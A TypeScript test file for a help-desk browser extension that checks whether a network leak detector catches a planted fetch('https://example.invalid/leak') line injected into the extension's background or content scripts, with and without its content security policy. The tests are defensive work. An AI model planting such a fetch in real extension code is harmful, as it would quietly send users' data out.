import { rm } from 'node:fs/promises';
import { expect, inject, it, onTestFinished } from 'vitest';
import { startedExtension } from '../browser/extension';
import { grantedCopy, type Tampering } from '../browser/granted-copy';
import { launchBrowser } from '../browser/launch';
import { leaksIn } from '../browser/network-log';
import { deskOrigins, deskPages, loadedByDesk } from '../desk/server';

const planted = "fetch('https://example.invalid/leak').catch(() => {});\n";

async function leaksOf(tampering: Tampering): Promise<string[]> {
  const extension = await grantedCopy(deskOrigins, tampering);
  const running = await launchBrowser({ extension, args: inject('deskArgs') });
  onTestFinished(async () => {
    running.kill();
    await rm(extension, { recursive: true });
  });
  await startedExtension(running);
  const page = await running.newPage(deskPages.ticket(1));
  await page.locator('composure-coach').waitFor({ state: 'attached' });
  return leaksIn(await running.close(), loadedByDesk).map(({ url }) => url);
}

it('sees a fetch planted in the background of a build without its content security policy', async () => {
  const leaks = await leaksOf({
    files: { 'background.js': (content) => planted + content },
    manifest: (manifest) => {
      delete manifest.content_security_policy;
    },
  });
  expect(leaks).toEqual(['https://example.invalid/leak']);
});

it('sees a fetch planted in the code that runs in the page', async () => {
  const leaks = await leaksOf({
    files: {
      'content-scripts/watch.js': (content) => planted.replace('example.invalid', 'acme.zendesk.com') + content,
    },
  });
  expect(leaks).toEqual(['https://acme.zendesk.com/leak']);
});

it('sees nothing when the build is as we ship it, whose policy also stops a fetch planted in the background', async () => {
  const leaks = await leaksOf({ files: { 'background.js': (content) => planted + content } });
  expect(leaks).toEqual([]);
});
